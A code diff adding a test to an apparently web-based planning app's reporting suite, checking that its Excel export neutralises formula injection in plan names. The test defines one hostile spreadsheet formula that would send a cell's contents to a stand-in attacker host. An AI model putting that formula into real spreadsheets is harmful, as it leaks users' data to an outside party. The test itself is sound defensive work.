@@ -186,3 +186,22 @@ def test_report_indicators_equal_strategys_indicator_detail():
         assert row["forecast"]["value_at_target_date"] == (
             pytest.approx(fc.value_at_target_date) if fc.value_at_target_date is not None else None
         )
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_board_xlsx_writes_a_hostile_name_as_text(staff_user):
+    plan = small_plan(name=HOSTILE)
+    response = api_client(staff_user).get(f"/reports/plans/{plan.slug}.xlsx?as_of={AS_OF}")
+    assert response.status_code == 200
+    wb = load_workbook(io.BytesIO(response.content))
+    texts = [
+        cell
+        for sheet in wb.worksheets
+        for row in sheet.iter_rows(values_only=True)
+        for cell in row
+        if isinstance(cell, str)
+    ]
+    assert "'" + HOSTILE in texts
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
